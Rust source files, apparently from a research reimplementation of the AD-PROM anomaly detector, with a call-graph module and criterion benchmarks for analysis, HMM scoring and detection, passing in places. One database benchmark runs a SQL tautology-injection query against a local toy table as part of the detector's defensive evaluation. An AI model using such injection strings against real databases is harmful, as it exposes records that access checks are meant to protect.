    /// Names of callees that are *recursive* with respect to `func`: callees
    /// in the same SCC, or `func` itself. CFG construction skips these call
    /// sites.
    pub fn recursive_callees(&self, func: &str) -> Vec<String> {
        let Some(fi) = self.id_of(func) else {
            return Vec::new();
        };
        let scc = self.sccs();
        self.callees[fi]
            .iter()
            .filter(|&&c| scc[c] == scc[fi])
            .map(|&c| self.functions[c].clone())
            .collect()
    }

    /// Functions in reverse topological order (callees before callers),
    /// suitable as the aggregation order. Cycles are broken via SCCs:
    /// members of one SCC appear consecutively in arbitrary internal order.
    pub fn reverse_topological(&self) -> Vec<usize> {
        let scc = self.sccs();
        // Tarjan numbered SCCs in reverse topological order of the
        // condensation already; sort functions by SCC id ascending.
        let mut order: Vec<usize> = (0..self.functions.len()).collect();
        order.sort_by_key(|&f| scc[f]);
        order
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use adprom_lang::parse_program;

    #[test]
    fn builds_simple_cg() {
        let prog =
            parse_program("fn main() { a(); b(); }\nfn a() { b(); }\nfn b() { puts(\"x\"); }")
                .unwrap();
        let cg = CallGraph::build(&prog);
        let main = cg.id_of("main").unwrap();
        let a = cg.id_of("a").unwrap();
        let b = cg.id_of("b").unwrap();
        assert_eq!(cg.callees[main], vec![a, b]);
        assert_eq!(cg.callees[a], vec![b]);
        assert!(cg.callees[b].is_empty());
    }

    #[test]
    fn reverse_topo_puts_callees_first() {
        let prog = parse_program("fn main() { a(); }\nfn a() { b(); }\nfn b() { }").unwrap();
        let cg = CallGraph::build(&prog);
        let order = cg.reverse_topological();
        let pos = |name: &str| order.iter().position(|&f| cg.functions[f] == name).unwrap();
        assert!(pos("b") < pos("a"));
        assert!(pos("a") < pos("main"));
    }

    #[test]
    fn self_recursion_detected() {
        let prog = parse_program("fn main() { rec(1); }\nfn rec(x) { rec(x); }").unwrap();
        let cg = CallGraph::build(&prog);
        assert_eq!(cg.recursive_callees("rec"), vec!["rec".to_string()]);
        assert!(cg.recursive_callees("main").is_empty());
    }

    #[test]
    fn mutual_recursion_detected() {
        let prog = parse_program("fn main() { a(); }\nfn a() { b(); }\nfn b() { a(); }").unwrap();
        let cg = CallGraph::build(&prog);
        assert_eq!(cg.recursive_callees("a"), vec!["b".to_string()]);
        assert_eq!(cg.recursive_callees("b"), vec!["a".to_string()]);
        // main is outside the cycle.
        assert!(cg.recursive_callees("main").is_empty());
        // Aggregation order still covers everyone.
        assert_eq!(cg.reverse_topological().len(), 3);
    }
}
