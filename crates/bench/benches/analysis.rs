//! Microbenchmarks for the static-analysis pipeline (Table VIII's cost
//! structure): CFG construction, DDG taint fixpoint, probability forecast +
//! CTMs, and pCTM aggregation, at App1–App3 scale.

use adprom_analysis::{
    aggregate_program, analyze, analyze_ddg, build_cfg, build_ctm, forecast, CallGraph,
};
use adprom_workloads::sir;
use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use std::collections::HashMap;
use std::hint::black_box;

fn programs() -> Vec<(String, adprom_lang::Program)> {
    [sir::app1_spec(), sir::app2_spec(), sir::app3_spec()]
        .into_iter()
        .map(|spec| (spec.name.clone(), sir::generate_program(&spec)))
        .collect()
}

fn bench_full_analysis(c: &mut Criterion) {
    let mut group = c.benchmark_group("analyze_full");
    for (name, prog) in programs() {
        group.bench_with_input(BenchmarkId::from_parameter(&name), &prog, |b, prog| {
            b.iter(|| black_box(analyze(black_box(prog)).pctm.dim()))
        });
    }
    group.finish();
}

fn bench_stages(c: &mut Criterion) {
    let (_, prog) = programs().remove(2 - 1); // App2 scale
    c.bench_function("cfg_build_app2", |b| {
        b.iter(|| {
            let total: usize = prog
                .functions
                .iter()
                .map(|f| build_cfg(f, &[]).nodes.len())
                .sum();
            black_box(total)
        })
    });
    c.bench_function("ddg_fixpoint_app2", |b| {
        b.iter(|| black_box(analyze_ddg(black_box(&prog)).tainted_sinks.len()))
    });
    c.bench_function("aggregation_app2", |b| {
        // Pre-compute CTMs; measure only the in-lining.
        let cg = CallGraph::build(&prog);
        let mut ctms = HashMap::new();
        for f in &prog.functions {
            let cfg = build_cfg(f, &cg.recursive_callees(&f.name));
            let fore = forecast(&cfg);
            ctms.insert(f.name.clone(), build_ctm(&cfg, &fore, &HashMap::new()));
        }
        b.iter(|| black_box(aggregate_program(&cg, &ctms).dim()))
    });
}

criterion_group!(benches, bench_full_analysis, bench_stages);
criterion_main!(benches);
