//! Collector microbenchmark behind Table VI: per-event cost of the AD-PROM
//! Calls Collector (name + caller only) vs the ltrace simulator (argument
//! formatting + instruction-pointer resolution).

use adprom_lang::{CallSiteId, LibCall};
use adprom_trace::{CallEvent, CallSink, LtraceCollector, TraceCollector};
use criterion::{criterion_group, criterion_main, BatchSize, Criterion};
use std::hint::black_box;

fn events(n: usize) -> Vec<CallEvent> {
    (0..n)
        .map(|i| CallEvent {
            name: if i % 3 == 0 {
                format!("printf_Q{}", i % 40).into()
            } else {
                "mysql_fetch_row".into()
            },
            call: LibCall::Printf,
            caller: format!("work{}", i % 8).into(),
            site: CallSiteId((i % 90) as u32),
            detail: None,
        })
        .collect()
}

fn bench_collectors(c: &mut Criterion) {
    let batch = events(1000);
    let functions: Vec<String> = (0..8).map(|i| format!("work{i}")).collect();

    c.bench_function("calls_collector_1k_events", |b| {
        b.iter_batched(
            TraceCollector::new,
            |mut sink| {
                for e in &batch {
                    sink.on_call(e.clone());
                }
                black_box(sink.len())
            },
            BatchSize::SmallInput,
        )
    });

    c.bench_function("ltrace_collector_1k_events", |b| {
        b.iter_batched(
            || LtraceCollector::new(&functions, 4096),
            |mut sink| {
                for e in &batch {
                    sink.on_call(e.clone());
                }
                black_box(sink.records().len())
            },
            BatchSize::SmallInput,
        )
    });
}

criterion_group!(benches, bench_collectors);
criterion_main!(benches);
