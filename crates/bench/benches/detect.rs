//! Detection-phase throughput: per-window classification cost and
//! whole-trace scanning (what the online monitor pays per library call).

use adprom_analysis::analyze;
use adprom_core::{build_profile, ConstructorConfig, DetectionEngine};
use adprom_workloads::hospital;
use criterion::{criterion_group, criterion_main, Criterion};
use std::hint::black_box;

fn bench_detection(c: &mut Criterion) {
    let workload = hospital::workload(15, 9);
    let analysis = analyze(&workload.program);
    let traces = workload.collect_traces(&analysis.site_labels);
    let mut config = ConstructorConfig::default();
    config.train.max_iterations = 6;
    let (profile, _) = build_profile("App_h", &analysis, &traces, &config);
    let engine = DetectionEngine::new(&profile);
    let trace = &traces[0];
    let window: Vec<adprom_trace::CallEvent> =
        trace.iter().take(profile.window).cloned().collect();

    c.bench_function("classify_window15", |b| {
        b.iter(|| black_box(engine.classify(black_box(&window)).flag))
    });

    c.bench_function("scan_trace", |b| {
        b.iter(|| black_box(engine.scan(black_box(trace)).len()))
    });

    let names: Vec<String> = window.iter().map(|e| e.name.clone()).collect();
    c.bench_function("score_window15", |b| {
        b.iter(|| black_box(engine.score(black_box(&names))))
    });
}

criterion_group!(benches, bench_detection);
criterion_main!(benches);
