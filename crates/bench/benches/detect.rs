//! Detection-phase throughput: per-window classification cost and
//! whole-trace scanning (what the online monitor pays per library call).

use adprom_analysis::analyze;
use adprom_core::{build_profile, BatchDetector, ConstructorConfig, DetectionEngine, ScoringMode};
use adprom_workloads::hospital;
use criterion::{criterion_group, criterion_main, Criterion};
use std::hint::black_box;

fn bench_detection(c: &mut Criterion) {
    let workload = hospital::workload(15, 9);
    let analysis = analyze(&workload.program);
    let traces = workload.collect_traces(&analysis.site_labels);
    let mut config = ConstructorConfig::default();
    config.train.max_iterations = 6;
    let (profile, _) = build_profile("App_h", &analysis, &traces, &config);
    let engine = DetectionEngine::new(&profile);
    let trace = &traces[0];
    let window: Vec<adprom_trace::CallEvent> = trace.iter().take(profile.window).cloned().collect();

    c.bench_function("classify_window15", |b| {
        b.iter(|| black_box(engine.classify(black_box(&window)).flag))
    });

    c.bench_function("scan_trace", |b| {
        b.iter(|| black_box(engine.scan(black_box(trace)).len()))
    });

    let names: Vec<String> = window.iter().map(|e| e.name.to_string()).collect();
    c.bench_function("score_window15", |b| {
        b.iter(|| black_box(engine.score(black_box(&names))))
    });
}

/// Batch throughput: a serial engine loop vs the parallel BatchDetector in
/// both scoring modes over the same multi-session batch.
fn bench_batch(c: &mut Criterion) {
    let workload = hospital::workload(15, 9);
    let analysis = analyze(&workload.program);
    let traces = workload.collect_traces(&analysis.site_labels);
    let mut config = ConstructorConfig::default();
    config.train.max_iterations = 6;
    let (profile, _) = build_profile("App_h", &analysis, &traces, &config);
    let engine = DetectionEngine::new(&profile);
    let batch = traces;
    let events: usize = batch.iter().map(Vec::len).sum();

    let mut group = c.benchmark_group(format!("batch_{}traces_{}events", batch.len(), events));
    group.bench_function("serial_exact", |b| {
        b.iter(|| {
            let alerts: usize = batch.iter().map(|t| engine.scan(t).len()).sum();
            black_box(alerts)
        })
    });
    let exact = BatchDetector::new(&profile);
    group.bench_function("parallel_exact", |b| {
        b.iter(|| black_box(exact.detect_batch(black_box(&batch)).len()))
    });
    let incremental = BatchDetector::new(&profile).with_mode(ScoringMode::Incremental);
    group.bench_function("parallel_incremental", |b| {
        b.iter(|| black_box(incremental.detect_batch(black_box(&batch)).len()))
    });
    group.finish();
}

criterion_group!(benches, bench_detection, bench_batch);
criterion_main!(benches);
