//! Instrumentation overhead: the detect hot path with a disabled registry
//! (the default — every metric op is a single `Option` branch) vs a live
//! one. The contract in DESIGN.md §9 is that enabled instrumentation costs
//! at most a few percent on `scan`, and disabled instrumentation is free;
//! compare `scan_trace/*` here against each other to audit it.

use adprom_analysis::analyze;
use adprom_core::resilience::sites;
use adprom_core::{
    build_profile, trace_windows, BatchDetector, ConstructorConfig, DetectionEngine, FailPoint,
    FaultKind, FaultPlan, ForensicsConfig, MonitorRuntime, ProfileRegistry, Trigger,
};
use adprom_hmm::{score_windows_batch, F32Kernel, SparseConfig, SparseTransitions};
use adprom_obs::Registry;
use adprom_trace::interleave;
use criterion::{criterion_group, criterion_main, Criterion};
use std::hint::black_box;
use std::sync::Arc;

fn bench_scan_overhead(c: &mut Criterion) {
    let workload = adprom_workloads::hospital::workload(15, 9);
    let analysis = analyze(&workload.program);
    let traces = workload.collect_traces(&analysis.site_labels);
    let mut config = ConstructorConfig::default();
    config.train.max_iterations = 6;
    let (profile, _) = build_profile("App_h", &analysis, &traces, &config);
    let trace = &traces[0];

    let mut group = c.benchmark_group("scan_trace");
    let plain = DetectionEngine::new(&profile);
    group.bench_function("disabled", |b| {
        b.iter(|| black_box(plain.scan(black_box(trace)).len()))
    });
    let registry = Registry::new();
    let instrumented = DetectionEngine::new(&profile).with_registry(&registry);
    group.bench_function("enabled", |b| {
        b.iter(|| black_box(instrumented.scan(black_box(trace)).len()))
    });
    group.finish();
}

/// The raw primitive costs: a disabled counter/histogram op must be a
/// single branch; an enabled one a relaxed atomic (plus a clock read for
/// timed histograms, paid by the caller only when `is_enabled`).
fn bench_primitives(c: &mut Criterion) {
    let disabled = Registry::disabled();
    let live = Registry::new();
    let dc = disabled.counter("bench.count");
    let lc = live.counter("bench.count");
    let dh = disabled.histogram("bench.ns");
    let lh = live.histogram("bench.ns");

    let mut group = c.benchmark_group("primitives");
    group.bench_function("counter_disabled", |b| b.iter(|| dc.inc()));
    group.bench_function("counter_enabled", |b| b.iter(|| lc.inc()));
    group.bench_function("histogram_disabled", |b| {
        b.iter(|| dh.record(black_box(1234)))
    });
    group.bench_function("histogram_enabled", |b| {
        b.iter(|| lh.record(black_box(1234)))
    });
    group.finish();
}

/// Resilience overhead: the guarded per-trace path (`catch_unwind`, fail
/// points, retry bookkeeping) vs the plain engine scan. The §11 contract:
/// disabled fail points cost one branch, so `scan_guarded` must track
/// `scan_plain` within noise.
fn bench_resilience_overhead(c: &mut Criterion) {
    let workload = adprom_workloads::hospital::workload(15, 9);
    let analysis = analyze(&workload.program);
    let traces = workload.collect_traces(&analysis.site_labels);
    let mut config = ConstructorConfig::default();
    config.train.max_iterations = 6;
    let (profile, _) = build_profile("App_h", &analysis, &traces, &config);
    let trace = &traces[0];

    let mut group = c.benchmark_group("resilience");
    let plain = DetectionEngine::new(&profile);
    group.bench_function("scan_plain", |b| {
        b.iter(|| black_box(plain.scan(black_box(trace)).len()))
    });
    let guarded = BatchDetector::new(&profile);
    group.bench_function("scan_guarded", |b| {
        b.iter(|| black_box(guarded.scan_trace(black_box(trace)).len()))
    });

    // The raw fail-point primitive: disabled is one branch; armed (but
    // never firing for this key) takes the site's trigger lock.
    let disabled = FailPoint::disabled();
    let injector = FaultPlan::new(7)
        .inject(
            sites::WORKER_PANIC,
            FaultKind::SlowScore { millis: 0 },
            Trigger::OnceForKeys([u64::MAX].into()),
        )
        .arm();
    let armed = injector.point(sites::WORKER_PANIC);
    group.bench_function("failpoint_disabled", |b| {
        b.iter(|| black_box(disabled.fire(black_box(3))))
    });
    group.bench_function("failpoint_armed_miss", |b| {
        b.iter(|| black_box(armed.fire(black_box(3))))
    });
    group.finish();
}

/// Forensics overhead on the benign path: the monitor runtime over a
/// benign session stream with the flight recorder disarmed vs armed. The
/// §14 contract: a benign session pays one null-pointer check per window,
/// so `benign_armed` must track `benign_disarmed` within a few percent —
/// attribution and report allocation happen only when a session alarms.
fn bench_forensics_overhead(c: &mut Criterion) {
    let workload = adprom_workloads::hospital::workload(15, 9);
    let analysis = analyze(&workload.program);
    let traces = workload.collect_traces(&analysis.site_labels);
    let mut config = ConstructorConfig::default();
    config.train.max_iterations = 6;
    let (profile, _) = build_profile("App_h", &analysis, &traces, &config);

    let profiles = ProfileRegistry::new();
    profiles
        .register("hospital", profile)
        .expect("profile validates");
    let profiles = Arc::new(profiles);
    let sessions: Vec<(String, String, _)> = traces
        .iter()
        .enumerate()
        .map(|(i, t)| ("hospital".to_string(), format!("s-{i}"), t.clone()))
        .collect();
    let stream = interleave(&sessions, 0xBE9);

    let run = |armed: bool| {
        let mut runtime = MonitorRuntime::new(Arc::clone(&profiles));
        if armed {
            runtime = runtime.with_forensics(ForensicsConfig::default());
        }
        runtime.ingest_stream(black_box(&stream));
        runtime
            .finish()
            .iter()
            .map(|r| r.alerts.len())
            .sum::<usize>()
    };

    let mut group = c.benchmark_group("forensics");
    group.bench_function("benign_disarmed", |b| b.iter(|| black_box(run(false))));
    group.bench_function("benign_armed", |b| b.iter(|| black_box(run(true))));
    group.finish();
}

/// Batch-width sweep over the batched scoring kernels: the same window
/// set scored in chunks of k ∈ {1, 4, 16, 64}. Per-lane scores are
/// bit-identical at every width (DESIGN.md §15), so the only thing that
/// moves is cache reuse of the shared transition structure — widening
/// from k=1 should show it directly in the criterion history, for the
/// exact f64 kernel and the f32 fast path alike.
fn bench_batch_width(c: &mut Criterion) {
    let workload = adprom_workloads::hospital::workload(15, 9);
    let analysis = analyze(&workload.program);
    let traces = workload.collect_traces(&analysis.site_labels);
    let mut config = ConstructorConfig::default();
    config.train.max_iterations = 6;
    let (profile, _) = build_profile("App_h", &analysis, &traces, &config);

    let windows: Vec<Vec<usize>> = trace_windows(&traces, profile.window)
        .iter()
        .map(|w| profile.alphabet.encode_seq(w))
        .collect();
    let lanes: Vec<&[usize]> = windows.iter().map(Vec::as_slice).collect();
    let sp = SparseTransitions::from_hmm(&profile.hmm, &SparseConfig::default());
    let fk = F32Kernel::from_sparse(&profile.hmm, &sp);

    let mut group = c.benchmark_group("batch_width");
    for k in [1usize, 4, 16, 64] {
        group.bench_function(format!("f64/k{k}"), |b| {
            b.iter(|| {
                let mut acc = 0.0f64;
                for chunk in lanes.chunks(k) {
                    let out = score_windows_batch(&profile.hmm, &sp, black_box(chunk), false);
                    acc += out.scores.iter().sum::<f64>();
                }
                black_box(acc)
            })
        });
        group.bench_function(format!("f32/k{k}"), |b| {
            b.iter(|| {
                let mut acc = 0.0f64;
                for chunk in lanes.chunks(k) {
                    let out = fk.score_windows_batch(black_box(chunk), false);
                    acc += out.scores.iter().sum::<f64>();
                }
                black_box(acc)
            })
        });
    }
    group.finish();
}

criterion_group!(
    benches,
    bench_scan_overhead,
    bench_primitives,
    bench_resilience_overhead,
    bench_forensics_overhead,
    bench_batch_width
);
criterion_main!(benches);
