//! Microbenchmarks for the HMM substrate: the forward pass (the per-window
//! detection cost) and one Baum–Welch re-estimation step (the training
//! cost unit behind Table VIII and the clustering ablation).

use adprom_hmm::{
    forward, log_likelihood, log_likelihood_sparse, reestimate, scan_scores, train, viterbi, Hmm,
    SparseConfig, SparseTransitions, TrainConfig,
};
use criterion::{criterion_group, criterion_main, BatchSize, BenchmarkId, Criterion};
use std::hint::black_box;

/// A model with the sparse structure trained AD-PROM profiles have: most of
/// each transition row sits at a shared background floor, a handful of
/// entries carry the mass. `flatten_floor` folds the sub-threshold entries
/// of the random matrix to their row mean, which is exactly the bitwise
/// structure the CSR builder exploits at `epsilon = 0`.
fn sparse_structured_hmm(n: usize, seed: u64) -> Hmm {
    let mut hmm = Hmm::random(n, n, seed);
    hmm.flatten_floor(1.2 / n as f64);
    hmm
}

fn bench_forward(c: &mut Criterion) {
    let mut group = c.benchmark_group("forward_window15");
    for &n in &[16usize, 64, 256] {
        let hmm = Hmm::random(n, n, 42);
        let obs = hmm.sample(15, 7);
        group.bench_with_input(BenchmarkId::from_parameter(n), &n, |b, _| {
            b.iter(|| black_box(forward(&hmm, black_box(&obs)).log_likelihood))
        });
    }
    group.finish();
}

/// Full per-window forward recompute vs the incremental SlidingForward
/// scorer over the same 15-length windows of one long trace — the
/// O(n·N²) vs O(N²) per-event comparison behind the batched pipeline.
fn bench_sliding(c: &mut Criterion) {
    const WINDOW: usize = 15;
    const TRACE_LEN: usize = 512;
    let mut group = c.benchmark_group("window_scan_t512_w15");
    for &n in &[16usize, 64] {
        let mut hmm = Hmm::random(n, n, 42);
        hmm.smooth(1e-4);
        let obs = hmm.sample(TRACE_LEN, 7);
        group.bench_with_input(BenchmarkId::new("full_recompute", n), &n, |b, _| {
            b.iter(|| {
                let total: f64 = obs
                    .windows(WINDOW)
                    .map(|w| forward(&hmm, w).log_likelihood)
                    .sum();
                black_box(total)
            })
        });
        group.bench_with_input(BenchmarkId::new("incremental", n), &n, |b, _| {
            b.iter(|| {
                let total: f64 = scan_scores(&hmm, &obs, WINDOW).iter().sum();
                black_box(total)
            })
        });
    }
    group.finish();
}

fn bench_viterbi(c: &mut Criterion) {
    let hmm = Hmm::random(64, 64, 42);
    let obs = hmm.sample(15, 7);
    c.bench_function("viterbi_n64_t15", |b| {
        b.iter(|| black_box(viterbi(&hmm, black_box(&obs))))
    });
}

fn bench_reestimate(c: &mut Criterion) {
    let mut group = c.benchmark_group("baum_welch_iteration");
    group.sample_size(10);
    for &n in &[16usize, 64] {
        let teacher = Hmm::random(n, n, 3);
        let windows: Vec<Vec<usize>> = (0..200).map(|i| teacher.sample(15, i)).collect();
        group.bench_with_input(BenchmarkId::from_parameter(n), &n, |b, _| {
            b.iter_batched(
                || Hmm::random(n, n, 11),
                |mut hmm| {
                    reestimate(&mut hmm, &windows, 1e-6);
                    black_box(hmm.pi[0])
                },
                BatchSize::LargeInput,
            )
        });
    }
    group.finish();
}

/// Dense full-recompute scoring vs the sparse CSR kernel on the same
/// 15-length windows — the per-window detection cost the `--sparse` path
/// of `bench_detect` exercises end-to-end.
fn bench_sparse_vs_dense(c: &mut Criterion) {
    const WINDOW: usize = 15;
    const TRACE_LEN: usize = 512;
    let mut group = c.benchmark_group("sparse_vs_dense_w15");
    for &n in &[16usize, 64] {
        let hmm = sparse_structured_hmm(n, 42);
        let sp = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
        let obs = hmm.sample(TRACE_LEN, 7);
        group.bench_with_input(BenchmarkId::new("dense", n), &n, |b, _| {
            b.iter(|| {
                let total: f64 = obs.windows(WINDOW).map(|w| log_likelihood(&hmm, w)).sum();
                black_box(total)
            })
        });
        group.bench_with_input(BenchmarkId::new("sparse", n), &n, |b, _| {
            b.iter(|| {
                let total: f64 = obs
                    .windows(WINDOW)
                    .map(|w| log_likelihood_sparse(&hmm, &sp, w))
                    .sum();
                black_box(total)
            })
        });
    }
    group.finish();
}

/// Serial vs parallel Baum–Welch E-step over per-trace sufficient
/// statistics. On a single-core host the parallel path measures pure
/// overhead; on a multi-core host it shows the E-step fan-out.
fn bench_bw_parallel(c: &mut Criterion) {
    let mut group = c.benchmark_group("bw_parallel");
    group.sample_size(10);
    let n = 32usize;
    let teacher = sparse_structured_hmm(n, 3);
    let windows: Vec<Vec<usize>> = (0..200).map(|i| teacher.sample(15, i)).collect();
    let holdout: Vec<Vec<usize>> = (200..240).map(|i| teacher.sample(15, i)).collect();
    for parallel in [false, true] {
        let label = if parallel { "parallel" } else { "serial" };
        group.bench_function(label, |b| {
            b.iter_batched(
                || Hmm::random(n, n, 11),
                |mut hmm| {
                    let config = TrainConfig {
                        max_iterations: 3,
                        parallel,
                        ..TrainConfig::default()
                    };
                    let report = train(&mut hmm, &windows, &holdout, &config);
                    black_box((hmm.pi[0], report.iterations))
                },
                BatchSize::LargeInput,
            )
        });
    }
    group.finish();
}

criterion_group!(
    benches,
    bench_forward,
    bench_sliding,
    bench_viterbi,
    bench_reestimate,
    bench_sparse_vs_dense,
    bench_bw_parallel
);
criterion_main!(benches);
