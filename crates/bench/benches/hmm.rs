//! Microbenchmarks for the HMM substrate: the forward pass (the per-window
//! detection cost) and one Baum–Welch re-estimation step (the training
//! cost unit behind Table VIII and the clustering ablation).

use adprom_hmm::{forward, reestimate, scan_scores, viterbi, Hmm};
use criterion::{criterion_group, criterion_main, BatchSize, BenchmarkId, Criterion};
use std::hint::black_box;

fn bench_forward(c: &mut Criterion) {
    let mut group = c.benchmark_group("forward_window15");
    for &n in &[16usize, 64, 256] {
        let hmm = Hmm::random(n, n, 42);
        let obs = hmm.sample(15, 7);
        group.bench_with_input(BenchmarkId::from_parameter(n), &n, |b, _| {
            b.iter(|| black_box(forward(&hmm, black_box(&obs)).log_likelihood))
        });
    }
    group.finish();
}

/// Full per-window forward recompute vs the incremental SlidingForward
/// scorer over the same 15-length windows of one long trace — the
/// O(n·N²) vs O(N²) per-event comparison behind the batched pipeline.
fn bench_sliding(c: &mut Criterion) {
    const WINDOW: usize = 15;
    const TRACE_LEN: usize = 512;
    let mut group = c.benchmark_group("window_scan_t512_w15");
    for &n in &[16usize, 64] {
        let mut hmm = Hmm::random(n, n, 42);
        hmm.smooth(1e-4);
        let obs = hmm.sample(TRACE_LEN, 7);
        group.bench_with_input(BenchmarkId::new("full_recompute", n), &n, |b, _| {
            b.iter(|| {
                let total: f64 = obs
                    .windows(WINDOW)
                    .map(|w| forward(&hmm, w).log_likelihood)
                    .sum();
                black_box(total)
            })
        });
        group.bench_with_input(BenchmarkId::new("incremental", n), &n, |b, _| {
            b.iter(|| {
                let total: f64 = scan_scores(&hmm, &obs, WINDOW).iter().sum();
                black_box(total)
            })
        });
    }
    group.finish();
}

fn bench_viterbi(c: &mut Criterion) {
    let hmm = Hmm::random(64, 64, 42);
    let obs = hmm.sample(15, 7);
    c.bench_function("viterbi_n64_t15", |b| {
        b.iter(|| black_box(viterbi(&hmm, black_box(&obs))))
    });
}

fn bench_reestimate(c: &mut Criterion) {
    let mut group = c.benchmark_group("baum_welch_iteration");
    group.sample_size(10);
    for &n in &[16usize, 64] {
        let teacher = Hmm::random(n, n, 3);
        let windows: Vec<Vec<usize>> = (0..200).map(|i| teacher.sample(15, i)).collect();
        group.bench_with_input(BenchmarkId::from_parameter(n), &n, |b, _| {
            b.iter_batched(
                || Hmm::random(n, n, 11),
                |mut hmm| {
                    reestimate(&mut hmm, &windows, 1e-6);
                    black_box(hmm.pi[0])
                },
                BatchSize::LargeInput,
            )
        });
    }
    group.finish();
}

criterion_group!(
    benches,
    bench_forward,
    bench_sliding,
    bench_viterbi,
    bench_reestimate
);
criterion_main!(benches);
