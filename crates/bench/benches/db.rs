//! Database-substrate benchmarks: parse+execute cost for the statement
//! shapes the workloads issue, including the tautology-injection query.

use adprom_db::{Database, Value};
use criterion::{criterion_group, criterion_main, Criterion};
use std::hint::black_box;

fn seeded_db(rows: usize) -> Database {
    let mut db = Database::new("bench");
    db.execute("CREATE TABLE clients (id INT, name TEXT, balance FLOAT)")
        .unwrap();
    for i in 0..rows {
        db.execute(&format!(
            "INSERT INTO clients VALUES ({}, 'client{}', {})",
            100 + i,
            i,
            (i * 13) % 700
        ))
        .unwrap();
    }
    db
}

fn bench_queries(c: &mut Criterion) {
    let mut db = seeded_db(1000);
    c.bench_function("select_point_1k_rows", |b| {
        b.iter(|| {
            let r = db
                .execute(black_box("SELECT * FROM clients WHERE id = 600"))
                .unwrap();
            black_box(r.rows().unwrap().ntuples())
        })
    });
    c.bench_function("select_tautology_1k_rows", |b| {
        b.iter(|| {
            let r = db
                .execute(black_box("SELECT * FROM clients where id='1' OR '1'='1'"))
                .unwrap();
            black_box(r.rows().unwrap().ntuples())
        })
    });
    c.bench_function("count_with_predicate", |b| {
        b.iter(|| {
            let r = db
                .execute(black_box(
                    "SELECT COUNT(*) FROM clients WHERE balance > 300",
                ))
                .unwrap();
            black_box(r.rows().unwrap().get_value(0, 0))
        })
    });
    db.prepare("by_id", "SELECT * FROM clients WHERE id = $1")
        .unwrap();
    c.bench_function("prepared_point_lookup", |b| {
        b.iter(|| {
            let r = db
                .execute_prepared("by_id", &[Value::Text("600".into())])
                .unwrap();
            black_box(r.rows().unwrap().ntuples())
        })
    });
    c.bench_function("parse_only_select", |b| {
        b.iter(|| {
            black_box(adprom_db::sql::parse_sql(black_box(
                "SELECT id, name FROM clients WHERE balance >= 10 AND name LIKE 'c%' ORDER BY id LIMIT 5",
            ))
            .unwrap())
        })
    });
}

criterion_group!(benches, bench_queries);
criterion_main!(benches);
