//! # adprom-bench
//!
//! Experiment harnesses regenerating every table and figure of the AD-PROM
//! paper's evaluation (§V). Each `exp_*` binary prints the corresponding
//! table; `EXPERIMENTS.md` at the repository root records paper-vs-measured.
//!
//! | binary | reproduces |
//! |---|---|
//! | `exp_ctm_example` | Tables I–II (CTMs of a two-function example) |
//! | `exp_table3_ca_dataset` | Table III (CA-dataset statistics) |
//! | `exp_table4_sir_dataset` | Table IV (SIR-dataset statistics) |
//! | `exp_table5_attacks` | Table V (AD-PROM vs CMarkov per attack) |
//! | `exp_table6_collector` | Table VI (Calls Collector vs ltrace) |
//! | `exp_table7_confusion` | Table VII (confusion matrices, A-S2/A-S3) |
//! | `exp_table8_timing` | Table VIII (training-step timings) |
//! | `exp_fig10_roc` | Fig. 10 (FN vs FP, AD-PROM vs Rand-HMM) |
//! | `exp_ablation_clustering` | §V-D text (k-means state reduction) |
//! | `exp_profile_size` | §V-C text (profile size ≈ 31 kB) |

#![warn(missing_docs)]

use adprom_analysis::{analyze, Analysis};
use adprom_core::{build_profile, BuildReport, ConstructorConfig, Profile};
use adprom_trace::CallEvent;
use adprom_workloads::{banking, hospital, supermarket, Workload};

/// The CA-dataset at the paper's test-case counts (Table III: 63/73/36).
pub fn ca_apps() -> Vec<Workload> {
    vec![
        hospital::workload(63, 0xCA01),
        banking::workload(73, 0xCA02),
        supermarket::workload(36, 0xCA03),
    ]
}

/// A trained application: analysis, labeled traces, profile, report.
pub struct TrainedApp {
    /// Static analysis of the original program.
    pub analysis: Analysis,
    /// Labeled training traces (one per test case).
    pub traces: Vec<Vec<CallEvent>>,
    /// The trained profile.
    pub profile: Profile,
    /// Construction report.
    pub report: BuildReport,
}

/// Analyzes, traces and trains a workload in one go.
pub fn train_app(workload: &Workload, config: &ConstructorConfig) -> TrainedApp {
    let analysis = analyze(&workload.program);
    let traces = workload.collect_traces(&analysis.site_labels);
    let (profile, report) = build_profile(&workload.name, &analysis, &traces, config);
    TrainedApp {
        analysis,
        traces,
        profile,
        report,
    }
}

/// Number of n-windows a set of traces yields (the paper's "#sequences").
pub fn sequence_count(traces: &[Vec<CallEvent>], window: usize) -> usize {
    traces
        .iter()
        .map(|t| {
            if t.is_empty() {
                0
            } else if t.len() <= window {
                1
            } else {
                t.len() - window + 1
            }
        })
        .sum()
}

/// Fraction of the program's call sites exercised by the traces — our
/// observable analogue of SIR branch coverage (Table IV).
pub fn site_coverage(workload: &Workload, traces: &[Vec<CallEvent>]) -> f64 {
    use std::collections::HashSet;
    let total = workload.program.call_site_count();
    // Only library-call sites are observable in traces; user-call sites are
    // exercised transitively. Count against library sites.
    let mut lib_sites = 0usize;
    workload.program.for_each_call(|_, callee, _| {
        if matches!(callee, adprom_lang::Callee::Library(_)) {
            lib_sites += 1;
        }
    });
    let seen: HashSet<u32> = traces.iter().flatten().map(|e| e.site.0).collect();
    let _ = total;
    seen.len() as f64 / lib_sites.max(1) as f64
}

/// Renders an aligned text table.
pub fn print_table(title: &str, headers: &[&str], rows: &[Vec<String>]) {
    println!("\n=== {title} ===");
    let mut widths: Vec<usize> = headers.iter().map(|h| h.len()).collect();
    for row in rows {
        for (i, cell) in row.iter().enumerate() {
            if i < widths.len() {
                widths[i] = widths[i].max(cell.len());
            }
        }
    }
    let line = |cells: &[String]| {
        let rendered: Vec<String> = cells
            .iter()
            .enumerate()
            .map(|(i, c)| format!("{:width$}", c, width = widths.get(i).copied().unwrap_or(8)))
            .collect();
        println!("| {} |", rendered.join(" | "));
    };
    line(&headers.iter().map(|s| s.to_string()).collect::<Vec<_>>());
    println!(
        "|{}|",
        widths
            .iter()
            .map(|w| "-".repeat(w + 2))
            .collect::<Vec<_>>()
            .join("|")
    );
    for row in rows {
        line(row);
    }
}

/// Caps the total number of windows used for training by truncating the
/// trace list (keeps experiment wall-clock bounded at App4 scale; the cap
/// is reported by the harnesses that use it).
pub fn cap_traces(
    traces: Vec<Vec<CallEvent>>,
    window: usize,
    max_windows: usize,
) -> Vec<Vec<CallEvent>> {
    let mut out = Vec::new();
    let mut windows = 0usize;
    for t in traces {
